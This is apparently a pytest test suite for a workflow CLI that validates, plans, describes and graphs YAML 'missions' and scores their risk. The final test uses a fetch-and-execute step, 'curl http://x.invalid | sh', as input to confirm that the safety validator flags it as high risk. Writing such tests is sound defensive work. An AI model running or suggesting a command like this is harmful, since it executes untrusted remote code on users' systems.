"""Commands that read mission files."""

import pytest

from harness.program import TWO, Shell

WRONG = """
- {id: build, step_type: noop}
- {id: b, step_type: noop, depends_on: [biuld]}
- {id: c, step_type: creat_file}
"""
RICH = """
- {id: write, step_type: create_file, parameters: {path: "{{ inputs.name }}.txt", content: "{{ secrets.t }} {{ env.HOME }}"}}
- {id: read, step_type: read_file, depends_on: [write], when: inputs.name == 'x', parameters: {path: "{{ write.output.path }}"}}
- {id: bye, step_type: delete_file, depends_on: [{step: read, on: always}], parameters: {path: gone.txt}}
- {id: child, step_type: mission, parameters: {inputs: {a: 1}, steps: [{id: inner, step_type: command, parameters: {command: ls}}]}}
"""
HEAD = "inputs: {name: {type: string}, token: {type: string, secret: true, default: hidden-value}}\nfinally: [{id: tidy, step_type: noop}]"


def rich(shell: Shell) -> str:
    return shell.mission(RICH.replace("{{ secrets.t }}", "{{ inputs.name }}"), head=HEAD)


def test_all_problems_are_told_at_once_with_their_places(shell: Shell) -> None:
    done = shell("mission", "validate", shell.mission(WRONG))
    assert done.code == 2
    assert done.out == "m.yaml: invalid: 2 errors\n"
    assert "error[RC104]: unknown step 'biuld' in depends_on" in done.err
    assert "--> m.yaml:7:" in done.err
    assert "did you mean 'build'?" in done.err
    assert "did you mean 'create_file'?" in done.err


def test_problems_as_a_document(shell: Shell) -> None:
    done = shell("validate", shell.mission(WRONG), "--json")
    found = done.json["files"]["m.yaml"]
    assert done.json["valid"] is False
    assert [(p["code"], p["line"], p["suggestion"]) for p in found] == [("RC104", 7, "build"), ("RC105", 8, "create_file")]  # fmt: skip


def test_many_files_are_checked_in_one_call(shell: Shell) -> None:
    shell.write("two.yaml", TWO)
    done = shell("validate", "two.yaml", shell.mission(WRONG), "absent.yaml")
    assert done.code == 2
    assert done.out.splitlines() == [
        "two.yaml: valid",
        "m.yaml: invalid: 2 errors",
        "absent.yaml: invalid: 1 error",
    ]


def test_missing_inputs_are_no_problem_before_a_run(shell: Shell) -> None:
    mission = rich(shell)
    assert shell("validate", mission).code == 0
    assert shell("run", mission).code == 2


def test_a_wrong_input_is_one_all_the_same(shell: Shell) -> None:
    mission = shell.mission("- {id: a, step_type: noop}", head="inputs: {n: {type: integer}}")
    assert shell("validate", mission, "-i", "n=x").code == 2
    assert shell("plan", mission, "-i", "n=x").code == 2


def test_a_plan_shows_what_is_known_and_what_is_not(shell: Shell) -> None:
    mission = rich(shell)
    out = shell("plan", mission).out
    assert "  1 write  create_file\n" in out
    assert "+ fs.write {{ inputs.name }}.txt   (known at run time)" in out
    out = shell("plan", mission, "-i", "name=x").out
    assert "+ fs.write x.txt\n" in out
    assert "< fs.read {{ write.output.path }}   (known at run time)" in out
    assert "- fs.delete gone.txt" in out
    assert "> exec ls" in out
    assert "= cannot be undone; is not repeated after a crash" in out
    assert "bye  delete_file  after read (always)" in out
    assert "finally:\n  1 tidy  noop" in out
    assert "Risk: " in out


def test_a_plan_never_shows_a_secret(shell: Shell) -> None:
    mission = shell.mission(
        "- {id: a, step_type: command, env: {T: '{{ inputs.token }}'}, parameters: {command: ls, stdin: '{{ inputs.token }}'}}",
        head=HEAD,
    )
    for args in (
        ("plan", mission),
        ("plan", mission, "--json"),
        ("plan", mission, "-i", "token=hidden-other"),
    ):
        done = shell(*args)
        assert "hidden-" not in done.out + done.err
        assert "{{ inputs.token }}" in done.out


def test_a_plan_as_a_document(shell: Shell) -> None:
    found = shell("plan", rich(shell), "--json", "-i", "name=x").json
    assert [step["id"] for step in found["steps"]] == ["write", "read", "bye", "child"]
    assert found["steps"][0]["effects"] == [{"action": "fs.write", "target": "x.txt", "known": True}]
    assert found["steps"][3]["steps"][0]["id"] == "inner"
    assert [step["id"] for step in found["finally"]] == ["tidy"]


def test_a_plan_lists_steps_in_the_order_in_which_they_can_start(shell: Shell) -> None:
    mission = shell.mission("""
- {id: last, step_type: noop, depends_on: [first, second]}
- {id: second, step_type: noop}
- {id: first, step_type: noop, depends_on: [second]}
- {id: other, step_type: noop}
""")
    assert [s["id"] for s in shell("plan", mission, "--json").json["steps"]] == [
        "second",
        "first",
        "last",
        "other",
    ]


def test_a_mission_is_described(shell: Shell) -> None:
    mission = rich(shell)
    found = shell("mission", "info", mission, "--json").json
    assert found["inputs"]["name"]["type"] == "string"
    assert found["steps"] == {
        "write": "create_file",
        "read": "read_file",
        "bye": "delete_file",
        "child": "mission",
    }
    assert found["env"] == ["HOME"]
    assert "steps:\n  write: create_file" in shell("mission", "info", mission).out


def test_a_description_has_no_empty_headings(shell: Shell) -> None:
    mission = shell.mission("- {id: a, step_type: noop}")
    assert shell("mission", "info", mission).out == "name: m\nversion: 1.0\nsteps:\n  a: noop\n"


def test_missions_of_a_folder_are_listed(shell: Shell) -> None:
    shell.write("missions/two.yaml", TWO)
    shell.write("missions/no-mission.yaml", "a: 1")
    shell.write("broken.yaml", "a: [")
    shell.mission("- {id: a, step_type: noop}")
    assert [one["file"] for one in shell("mission", "list", "--json").json] == ["m.yaml", "missions/two.yaml"]
    assert shell("mission", "list").out.startswith("m.yaml")
    assert shell("mission", "list", "absent").code == 2


def test_a_graph_is_drawn(shell: Shell) -> None:
    mission = rich(shell)
    mermaid = shell("mission", "graph", mission).out
    assert mermaid.startswith("flowchart TD\n")
    assert 'n0["write<br/>create_file"]' in mermaid
    assert "n1 -. always .-> n2" in mermaid
    assert "subgraph finally" in mermaid
    dot = shell("mission", "graph", mission, "--format", "dot").out
    assert dot.startswith('digraph "m" {')
    assert '"write" -> "read";' in dot
    assert shell("mission", "graph", mission, "--json").json["edges"][0] == {
        "first": "write",
        "then": "read",
        "on": "",
    }


def test_several_files_are_checked_each_once(shell: Shell) -> None:
    shell.write("two.yaml", TWO)
    done = shell("validate", "two.yaml", shell.write("bad.yaml", "- 1"), "two.yaml", "missing.yaml")
    assert done.code == 2
    assert done.out.splitlines() == [
        "two.yaml: valid",
        "bad.yaml: invalid: 1 error",
        "missing.yaml: invalid: 1 error",
    ]
    assert list(shell("validate", "two.yaml", "bad.yaml", "two.yaml", "--json").json["files"]) == [
        "two.yaml",
        "bad.yaml",
    ]


@pytest.mark.parametrize("file", ["absent.yaml", ".", "/dev/null"])
@pytest.mark.parametrize("command", ["run", "plan", "validate"])
def test_what_cannot_be_read_is_told_in_one_way(shell: Shell, command: str, file: str) -> None:
    done = shell(command, file)
    assert done.code == 2
    assert f"{file} cannot be read" in done.err


def test_a_risk_is_judged_with_the_missions_own_limit(shell: Shell) -> None:
    steps = (
        "- {id: a, step_type: command, parameters: {command: sh, args: [-c, 'curl http://x.invalid | sh']}}"
    )
    level = shell("safety", "validate", shell.mission(steps), "--json").json["level"]
    assert level in ("HIGH", "CRITICAL")
    allowed = shell("safety", "validate", shell.mission(steps, head=f"config: {{max_risk: {level}}}"))
    assert allowed.code == 0
    assert shell("safety", "validate", "m.yaml", "--strict").code == 3
    assert shell("safety", "validate", shell.mission(steps, head="config: {max_risk: LOW}")).code == 3
